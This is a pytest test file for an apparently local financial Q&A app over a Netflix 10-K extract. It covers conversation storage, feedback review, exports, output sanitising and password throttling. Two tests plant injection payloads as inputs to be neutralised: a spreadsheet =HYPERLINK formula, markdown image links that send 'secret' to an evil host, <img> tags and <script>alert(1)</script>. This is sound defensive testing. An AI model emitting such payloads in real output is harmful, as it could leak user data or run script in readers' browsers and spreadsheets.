"""The analyst's workbench without a browser: conversations that last (stored turns, an answer that
outlives the page that asked), feedback and its review, exports (Markdown, CSV, XLSX), model output
shown as text, and the persistent password throttle. Real index (a 4-page extract of Netflix's
2017 10-K), real facts route (no model needed for these questions)."""

from __future__ import annotations

import csv
import io
import json
import logging
import time
from pathlib import Path

import pytest

from backend.answering.answer import Answer
from backend.answering.chat import Filters
from backend.answering.events import Final, Token
from backend.app.display import api_text, citation_labels, safe_markdown, trace_steps
from backend.app.exports import (
    Export,
    answer_csv,
    answer_markdown,
    answer_xlsx,
    conversation_markdown,
    data_rows,
)
from backend.app.services import build_services
from backend.errors import ConversationNotFound, PasswordLocked
from backend.settings import Settings
from tests.conftest import CORPUS, MODELS

REVENUE = "What was Netflix's total revenue in FY2017?"


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory, netflix_extract: Path) -> Path:
    data = tmp_path_factory.mktemp("workbench") / "data"
    services = build_services(Settings(data_dir=data, models_path=MODELS, corpus_dir=CORPUS))
    [result] = services.ingestor.add([netflix_extract])
    assert result.status == "indexed" and result.facts > 0, result
    return data


@pytest.fixture
def services(data_dir: Path):
    services = build_services(Settings(data_dir=data_dir, models_path=MODELS, corpus_dir=CORPUS))
    yield services
    services.jobs.stop()


def ask(services, conv_id: str, question: str, filters: Filters | None = None) -> Answer:
    run = services.conversations.ask(conv_id, question, filters or Filters())
    events = list(run.follow(timeout_s=120))
    assert run.done and not run.error, run.error
    assert isinstance(events[-1], Final) and any(isinstance(e, Token) for e in events)
    return events[-1].answer


# --- conversations ---------------------------------------------------------------------------------
def test_a_conversation_is_stored_listed_renamed_and_deleted(services, data_dir):
    convs = services.conversations
    first = convs.new()
    answer = ask(services, first.conv_id, REVENUE)
    assert "11,692,713" in answer.answer
    again = ask(services, first.conv_id, "and in 2016?")  # a follow-up from the stored history
    assert again.standalone_question == "What was Netflix's total revenue in FY2016?"
    assert "8,830,669" in again.answer

    # a new chat keeps the old one; another process (a restarted server) sees both
    second = convs.new()
    later = build_services(Settings(data_dir=data_dir, models_path=MODELS)).conversations
    listed = {c.conv_id: c for c in later.list()}
    assert listed[first.conv_id].title == REVENUE and listed[first.conv_id].turns == 2
    assert listed[second.conv_id].turns == 0
    turns = later.turns(first.conv_id)
    assert [t.question for t in turns] == [REVENUE, "and in 2016?"]
    restored = turns[0].answer
    assert restored.answer == answer.answer and restored.citations == answer.citations
    assert restored.trace == json.loads(json.dumps(answer.trace, default=str))

    later.rename(first.conv_id, "Netflix revenue")
    assert later.get(first.conv_id).title == "Netflix revenue"
    later.delete(second.conv_id)
    with pytest.raises(ConversationNotFound):
        later.get(second.conv_id)
    with pytest.raises(ConversationNotFound):
        later.ask(second.conv_id, REVENUE, Filters())


def test_an_answer_outlives_the_page_that_asked(services):
    """The page stops following (a page switch ends its script run): the answer is still
    written and stored, and a page that comes back while it runs can follow it again."""
    convs = services.conversations
    conv = convs.new()
    run = convs.ask(conv.conv_id, REVENUE, Filters())
    assert convs.ask(conv.conv_id, "and in 2016?", Filters()) is run  # one answer at a time
    events = run.follow(timeout_s=120)
    next(events)  # the page shows the first event, then goes away
    del events
    deadline = time.monotonic() + 120
    while not run.done:
        assert time.monotonic() < deadline
        time.sleep(0.1)
    again = list(run.follow(timeout_s=1))  # a page that comes back replays the whole run
    assert isinstance(again[-1], Final)
    [turn] = convs.turns(conv.conv_id)
    assert "11,692,713" in turn.answer.answer and run.seq == 0
    assert convs.run(conv.conv_id) is None  # finished and stored: nothing left to follow


def test_feedback_and_corrections_reviewed_into_training_items(services, data_dir):
    convs = services.conversations
    conv = convs.new()
    ask(services, conv.conv_id, REVENUE)
    convs.feedback(conv.conv_id, 0, rating=-1, correction="Revenue was $11,692,713 thousand.")
    [turn] = convs.turns(conv.conv_id)
    assert (turn.rating, turn.correction) == (-1, "Revenue was $11,692,713 thousand.")
    [pending] = [c for c in convs.corrections() if c.conv_id == conv.conv_id]
    assert pending.question == REVENUE and "11,692,713" in pending.answer
    assert convs.review(pending, accept=True) >= 1
    items = [json.loads(x) for x in convs.corrections_path.read_text("utf-8").splitlines()]
    item = next(i for i in items if i["id"] == f"feedback-{conv.conv_id}-0")
    assert item["messages"] == [
        {"role": "user", "content": REVENUE},
        {"role": "assistant", "content": "Revenue was $11,692,713 thousand."},
    ]
    assert not [c for c in convs.corrections() if c.conv_id == conv.conv_id]  # reviewed
    convs.delete(conv.conv_id)  # the reviewed correction stays
    assert any(c.conv_id == conv.conv_id for c in convs.corrections("accepted"))


# --- exports -------------------------------------------------------------------------------------
def _export(services, question: str) -> Export:
    answer = services.chat.ask(question)
    labels = citation_labels(answer.citations, services.catalog.document)
    return Export(question, answer, labels)


def test_exports_carry_the_numbers_with_pages_and_the_calculation(services):
    from openpyxl import load_workbook

    lookup = _export(services, REVENUE)
    assert list(lookup.labels.values()) == ["Netflix 2017 · p.2"]
    md = answer_markdown(lookup)
    assert "11,692,713" in md and "- Netflix 2017 · p.2: NETFLIX_2017_10K_extract.pdf p.2" in md

    growth = _export(services, "By how much did Netflix's total revenue grow from 2016 to 2017?")
    rows = data_rows(growth.answer)
    assert [(r["fiscal_year"], r["value"], r["page"]) for r in rows] == [
        (2016, 8830669.0, 2),
        (2017, 11692713.0, 2),
    ]
    md = answer_markdown(growth)
    assert "| item | Netflix, Inc. 2016 | Netflix, Inc. 2017 |" in md
    assert "Calculation:" in md and "= 32.4" in md

    table = list(csv.reader(io.StringIO(answer_csv(growth))))
    assert table[0][:5] == ["kind", "company", "fiscal_year", "item", "value"]
    figures = [r for r in table if r[0] == "figure"]
    assert [(r[2], r[4], r[8]) for r in figures] == [
        ("2016", "8830669.0", "2"),
        ("2017", "11692713.0", "2"),
    ]
    assert any(r[0] == "calculation" and r[-1].startswith("(11692713") for r in table)

    wb = load_workbook(io.BytesIO(answer_xlsx(growth)))
    assert wb.sheetnames == ["Answer", "Data", "Table", "Calculation"]
    data = list(wb["Data"].values)
    assert data[1][3] == 8830669 and data[1][7] == 2
    assert next(iter(wb["Table"].values)) == ("item", "Netflix, Inc. 2016", "Netflix, Inc. 2017")
    whole = conversation_markdown("Netflix", [lookup, growth])
    assert whole.startswith("# Netflix") and whole.count("\n## ") == 2


def test_exported_model_text_is_text_never_a_formula_or_an_image():
    from openpyxl import load_workbook

    answer = Answer(question="q", answer='=HYPERLINK("http://evil/?q=1") ![x](http://evil/b.png)')
    ex = Export("q", answer, {})
    assert "evil/b.png" not in answer_markdown(ex) and "![" not in answer_markdown(ex)
    cell = next(r for r in csv.reader(io.StringIO(answer_csv(ex))) if r[0] == "answer")[-1]
    assert cell.startswith("'=HYPERLINK")
    sheet = load_workbook(io.BytesIO(answer_xlsx(ex)))["Answer"]
    assert sheet["B2"].data_type == "s" and sheet["B2"].value.startswith("=HYPERLINK")


# --- output as text ---------------------------------------------------------------------------
def test_model_output_is_rendered_as_text():
    planted = (
        "Revenue was $5 million ![x](http://evil/?q=secret) [1] see [docs](http://evil/a) "
        '<img src="http://evil/i.png"> http://evil/plain www.evil.com\n[r]: http://evil/ref'
    )
    out = safe_markdown(planted, {"[1]": "Netflix 2017 · p.2"})
    assert "](" not in out and "<img" not in out and "[r]:" not in out
    assert "http://" not in out and "www." not in out  # no autolinks either
    assert "\\$5 million" in out and "x" in out and "docs" in out
    assert ":blue-background[Netflix 2017 · p.2]" in out  # the app's own citation label


def test_api_answer_text_carries_no_links_images_or_html():
    planted = (
        'Margin was <5% ![x](http://evil/?q=secret) see [docs](http://evil/a) <img src="http://'
        'evil/i.png"> <script>alert(1)</script> <!-- c --> a < b'
    )
    out = api_text(planted)
    assert "](" not in out and "<img" not in out and "<script" not in out and "</" not in out
    assert "<!--" not in out and "&lt;img" in out
    assert "Margin was <5%" in out and "a < b" in out and "docs" in out


def test_trace_as_steps(services):
    answer = services.chat.ask(REVENUE)
    steps = trace_steps(answer.trace)
    fact = next(s for s in steps if s["tool"] == "get_fact")
    assert "item=" in fact["inputs"] and "11692713" in fact["result"]
    assert fact["page"] == "NETFLIX_2017_10K_extract.pdf p.2"


# --- the password throttle ------------------------------------------------------------------------
def test_password_throttle_backs_off_locks_out_persists_and_logs(data_dir, caplog, tmp_path):
    from backend.app.auth import PasswordGate
    from backend.store.catalog import Catalog
    from backend.store.throttle import AttemptLog

    settings = Settings(data_dir=tmp_path / "d", admin_password="open sesame",
                        password_max_failures=4, password_lockout_s=600)  # fmt: skip
    clock = [1000.0]
    gate = PasswordGate(settings, AttemptLog(Catalog(settings.catalog_path)), lambda: clock[0])
    caplog.set_level(logging.WARNING, logger="backend.app.auth")
    assert not gate.check("wrong")
    assert gate.wait_s() == 1.0
    with pytest.raises(PasswordLocked):
        gate.check("open sesame")  # even the right password waits: it is not tried
    clock[0] += 1
    assert not gate.check("wrong") and gate.wait_s() == 2.0
    clock[0] += 2
    assert not gate.check("wrong") and gate.wait_s() == 4.0
    clock[0] += 4
    assert not gate.check("wrong")  # the 4th in a row: locked out
    assert gate.wait_s() == 600
    # a restarted server (new objects on the same data dir) is still locked out
    restarted = PasswordGate(settings, AttemptLog(Catalog(settings.catalog_path)), lambda: clock[0])
    with pytest.raises(PasswordLocked, match="try again in 600 s"):
        restarted.check("open sesame")
    clock[0] += 600
    assert restarted.check("open sesame") and restarted.wait_s() == 0
    logged = [r.getMessage() for r in caplog.records]
    assert sum("wrong password" in m for m in logged) == 4
    assert any("locked for 600 s" in m for m in logged)
    assert any("refused" in m for m in logged)


def test_the_app_listens_on_this_machine_only_unless_told_otherwise():
    import tomllib

    from backend.settings import PROJECT_ROOT

    config = tomllib.loads((PROJECT_ROOT / ".streamlit" / "config.toml").read_text("utf-8"))
    assert config["server"]["address"] == "127.0.0.1"
    makefile = (PROJECT_ROOT / "Makefile").read_text("utf-8")
    assert "$(if $(ADDRESS),--server.address $(ADDRESS))" in makefile
